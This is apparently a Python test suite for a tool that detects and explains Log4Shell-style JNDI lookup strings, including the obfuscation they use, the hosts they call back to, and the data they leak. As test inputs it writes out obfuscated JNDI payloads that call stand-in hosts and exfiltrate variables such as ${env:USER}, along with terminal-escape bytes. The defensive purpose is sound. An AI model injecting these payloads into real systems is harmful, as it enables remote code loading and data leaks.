"""hikeshi explain from outside: single texts, batches, and the labelled messages where they exist."""
import json, os, pathlib, subprocess, unittest

ROOT = pathlib.Path(__file__).resolve().parents[2]
TOOL = str(ROOT / os.environ.get("HIKESHI_BUILD", "build") / "hikeshi")
DATA = ROOT.parent / "shared" / "data" / "lookups"


def explain(*args, stdin=b"", lang="C.UTF-8"):
    return subprocess.run([TOOL, "explain", *args], input=stdin, capture_output=True, timeout=120,
                          env={**os.environ, "LC_ALL": lang, "NO_COLOR": "1"})


def batch(messages):
    done = explain("--as-message", "--batch", stdin=b"".join(m + b"\n" for m in messages))
    return done.stdout.split(b"\n")[:-1]


def judged(lines):
    done = explain("--format", "json", "-", stdin=b"".join(x + b"\n" for x in lines))
    return [json.loads(x) for x in done.stdout.decode(errors="replace").splitlines()]


class Texts(unittest.TestCase):
    def test_a_disguised_text_is_unfolded(self):
        done = explain("%24%7B${lower:J}ndi:${::-l}dap://${env:USER}.q7.example/a%7D")
        out = done.stdout.decode()
        self.assertEqual(done.returncode, 0)
        self.assertTrue(out.startswith("REACHES"), out)
        for piece in ("decoded: url", "${lower:J} is j\n", "takes its default, l\n",
                      "     ${${lower:J}ndi:${::-l}dap://${env:USER}.q7.example/a}\n       ^^^^^^^^^^\n",
                      "calls back  ldap   ${env:USER}.q7.example   port 389 (default)   /a",
                      "a DNS query is enough"):
            self.assertIn(piece, out)

    def test_verdicts_and_exit_codes(self):
        for text, word, code in (("${jndi:ldap://203.0.113.9:1389/a", "IF-CLOSED", 0),
                                 ("${ jndi:ldap://203.0.113.9/a}", "ATTEMPT", 0),
                                 ("total: ${amount}", "NONE", 1), ("", "NONE", 1)):
            done = explain(text)
            self.assertEqual((done.stdout.decode().split()[0], done.returncode), (word, code), text)
        for wrong in ((), ("--batch",), ("--format", "xml", "a"), ("--as-message", "--batch", "x")):
            self.assertEqual(explain(*wrong).returncode, 2, wrong)

    def test_japanese_and_hostile_bytes(self):
        self.assertIn("この参照が実行されます", explain("${jndi:ldap://x/a}", lang="ja_JP.UTF-8").stdout.decode())
        out = explain("a\x1b[31m\u202e${jndi:ldap://\x1b]0;x\x07/a}").stdout
        self.assertNotIn(b"\x1b", out)
        self.assertNotIn("\u202e".encode(), out)

    def test_json_names_what_leaks(self):
        (one,) = judged([b"${jndi:rmi://${sys:user.name}.x.example:99/q}"])
        self.assertEqual(one["callback"], {"scheme": "rmi", "host": "${sys:user.name}.x.example", "port": 99, "path": "/q"})
        self.assertEqual((one["verdict"], one["leaks"]), ("reaches", ["sys:user.name"]))

    def test_messages_stand_alone(self):
        for message, want in ((b"$${jndi:a} ${q}", b"1\ta"), (b"$$${jndi:a} ${q}", b"0"), (b"${::-$}${jndi:a}", b"0"),
                              (b"${jndi:a:-${jndi:b}}", b"1\tb"), (b"${jndi:\\-a:-b}", b"1\ta"), (b"plain", b"0"),
                              (b"${${::-j}${::-n}di:a}", b"1\ta"), (b"%24{jndi:a}", b"0"), (b"", b"0")):
            self.assertEqual(batch([message]), [want], message)


@unittest.skipUnless(DATA.is_dir(), "the labelled messages are not here")
class Labelled(unittest.TestCase):
    def messages(self, file):
        rows = [x.split(b"\t", 2) for x in (DATA / file).read_bytes().split(b"\n") if x]
        want = [b"0" if r[0] == b"0" else b"1\t" + r[1].split(b" | ")[0] for r in rows]
        got = batch([r[2] for r in rows])
        self.assertEqual(len(got), len(want))
        self.assertEqual([(r[2], g) for r, w, g in zip(rows, want, got) if w != g], [])

    def test_edge_cases(self):
        self.messages("edge-cases.tsv")

    def test_generated_messages(self):
        self.messages("fuzz-visible.tsv")

    def test_collected(self):
        rows = [x.split(b"\t", 4) for x in (DATA / "collected.tsv").read_bytes().split(b"\n") if x]
        for kind, verdict in ((b"A", "reaches"), (b"T", "if-closed")):
            lines = [r[4] for r in rows if r[0] == kind]
            self.assertEqual([x for x, v in zip(lines, judged(lines)) if v["verdict"] != verdict], [])

    def test_encoded(self):
        for file in sorted((DATA / "encoded").iterdir()):
            lines = [x for x in file.read_bytes().split(b"\n") if x]
            self.assertEqual([x for x, v in zip(lines, judged(lines)) if v["verdict"] != "reaches"], [], file.name)

    def test_harmless(self):
        for file in ("benign-tricky.log", "not_jndi.txt"):
            lines = [x for x in (DATA / file).read_bytes().split(b"\n") if x]
            wrong = [x for x, v in zip(lines, judged(lines)) if v["verdict"] == "reaches"]
            self.assertEqual([x for x in wrong if b"$${jndi:" not in x], [])


if __name__ == "__main__":
    unittest.main()
